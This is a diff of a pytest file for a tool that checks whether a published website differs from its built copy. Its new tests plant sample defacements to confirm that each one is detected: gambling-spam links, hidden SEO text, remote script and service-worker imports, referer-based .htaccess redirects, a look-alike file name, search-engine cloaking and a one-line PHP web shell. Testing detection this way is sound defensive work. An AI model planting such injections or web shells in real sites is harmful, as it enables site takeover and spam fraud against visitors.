@@ -12,11 +12,12 @@ import pytest
 
 from ppidgen.cli.published_site import DOOR, Manners, PublishedSite
 from ppidgen.diagnostics import MachineFault
-from ppidgen.publish.comparison import Difference
+from ppidgen.publish.comparison import Difference, differences
 from tests.cli.conftest import Run
+from tests.portals.laying import lay
 
 QUICK = Manners(patience=5, tries=2, pause=0)
-SLOT = b'<div style="left:-999px"><a href="https://slot.example/gacor">slot</a></div>'
+SLOT = b'<div><a href="https://slot.example/gacor">slot</a></div>'
 FILES: Mapping[str, bytes] = {
     "index.html": b'<!doctype html><a href="/dip/">DIP</a>',
     "dip/index.html": b'<!doctype html><a href="/">Beranda</a>',
@@ -81,11 +82,7 @@ def host() -> Iterator[Host]:
 
 @pytest.fixture
 def built(tmp_path: Path) -> Path:
-    for name, content in FILES.items():
-        place = tmp_path / "built" / name
-        place.parent.mkdir(parents=True, exist_ok=True)
-        place.write_bytes(content)
-    return tmp_path / "built"
+    return lay(tmp_path / "built", FILES)
 
 
 @pytest.fixture
@@ -224,6 +221,84 @@ def test_what_is_left_out_is_not_asked_for(compared: Compared, host: Host) -> No
     host.files["berkas/a b.pdf"] = b"lain"
     assert compared("berkas/*") == ()
     assert not any(path.startswith("/berkas") for path in host.asked)
+
+
+SEO = b'<p style="position:absolute;left:-9999px">situs slot gacor maxwin</p>'
+REWRITE = b"Options -Indexes\nRewriteCond %{HTTP_REFERER} google\nRewriteRule .* https://slot.example/ [R]\n"
+MORE: Mapping[str, bytes] = {
+    "aset/cari.js": b"cari()", "aset/huruf.woff2": b"wOF2huruf", "sw.js": b"self.addEventListener('fetch',x)",
+    "data/dip.csv": b"a,b\r\n",
+}  # fmt: skip
+# What is done to a site: path and new content (None: none), what is told of it, and whether it is seen from outside.
+INJECTIONS: Mapping[str, tuple[str, bytes, str, list[str], bool]] = {
+    "link": ("dip/index.html", FILES["dip/index.html"] + SLOT, "changed", ["link: https://slot.example/gacor"], True),
+    "hidden words": ("dip/a/index.html", FILES["dip/a/index.html"] + SEO, "changed", ["other: style="], True),
+    "script": ("index.html", FILES["index.html"] + b"<script src=//x.example/a.js></script>", "changed",
+        ["script: //x.example/a.js"], True),
+    "redirect by meta": ("index.html", b'<meta http-equiv="Refresh" content="0;url=//x.example">', "changed",
+        ["other: 0;url=//x.example"], True),
+    "settings of the host": (".htaccess", REWRITE, "changed",
+        ["other: RewriteCond %{HTTP_REFERER} google", "other: RewriteRule .* https://slot.example/ [R]"], False),
+    "service worker": ("sw.js", MORE["sw.js"] + b";importScripts('//x.example/a.js')", "changed", [], True),
+    "folder of its own": ("slot-gacor/index.html", b"<!doctype html>" + SLOT, "added",
+        ["link: https://slot.example/gacor"], True),
+    "font": ("aset/huruf.woff2", b"wOF2jahat", "changed", [], True),
+    "program of a page": ("aset/cari.js", b"cari();x()", "changed", [], True),
+    "document": ("berkas/a b.pdf", FILES["berkas/a b.pdf"][:-9] + b"slot.fun\n", "changed", [], True),
+    "list of the site": ("manifes.json", FILES["manifes.json"].replace(b"{}", b'{"a":["",1]}'), "changed", [], True),
+    "name that looks alike": ("dip/\u0456ndex.html", FILES["dip/index.html"] + SLOT, "added",
+        ["link: /", "link: https://slot.example/gacor"], False),
+    "program of the server": ("wp-content/x.php", b"<?php eval($_POST[0]);", "added", [], False),
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("name", INJECTIONS)
+def test_each_kind_of_injection_is_told_with_its_place(
+    compared: Compared, host: Host, built: Path, tmp_path: Path, name: str
+) -> None:
+    path, content, change, brought, from_outside = INJECTIONS[name]
+    lay(built, MORE)
+    host.files |= {**MORE, path: content}
+    lay(tmp_path / "server", host.files)
+    assert [one[:2] for one in told(differences(str(built), str(tmp_path / "server")))] == [(path, change)]
+    (one,) = differences(str(built), str(tmp_path / "server"))
+    said = [f"{kind}: {value}" for kind, value in one.brought]
+    assert len(said) == len(brought)
+    assert all(told_.startswith(wanted) for told_, wanted in zip(said, brought, strict=True))
+    seen = told(compared())
+    assert [one[:3] for one in seen if not one[3]] == ([(path, change, said)] if from_outside else [])
+
+
+def test_an_honest_host_raises_no_alarm(compared: Compared, host: Host, built: Path) -> None:
+    """One that packs, adds headers, names the type of each file and stands behind another that keeps copies."""
+
+    def pack(path: str, headers: Mapping[str, str]) -> Reply | None:
+        name = path.removeprefix("/") or "index.html"
+        if name not in host.files or "gzip" not in headers["Accept-Encoding"]:
+            return None
+        more = {"Server": "cloudflare", "CF-Ray": "1", "Age": "9", "Set-Cookie": "a=b", "ETag": 'W/"1"'}
+        return 200, gzip.compress(host.files[name]), {"Content-Encoding": "gzip", **more}
+
+    lay(built, MORE)
+    host.files |= MORE
+    host.change = pack
+    assert compared() == ()
+
+
+def test_a_site_uploaded_as_text_is_told_from_one_that_was_changed(compared: Compared, host: Host, built: Path) -> None:
+    lay(built, {"dip/index.html": b"<p>a</p>\n<p>b</p>\n", "berkas/a.bin": b"a\nb\n"})
+    host.files |= {"dip/index.html": b"<p>a</p>\r\n<p>b</p>\r\n", "berkas/a.bin": b"a\r\nb\r\n"}
+    assert told(compared()) == [("berkas/a.bin", "changed", [], ""), ("dip/index.html", "line-ends", [], "")]
+
+
+def test_pages_far_from_the_front_are_asked_for_in_guise_too(compared: Compared, host: Host, built: Path) -> None:
+    many = {f"informasi/u/e{one:03}/index.html": b"<p>x</p>" for one in range(30)}
+    lay(built, many)
+    host.files |= many
+    host.change = lambda path, headers: (
+        (200, SLOT, {}) if "/informasi/" in path and "Googlebot" in headers["User-Agent"] else None
+    )
+    assert len([one for one in compared() if one.seen_by == "engine"]) > 15
 
 
 def test_a_server_that_does_not_answer_is_no_equal_portal(tmp_path: Path) -> None:
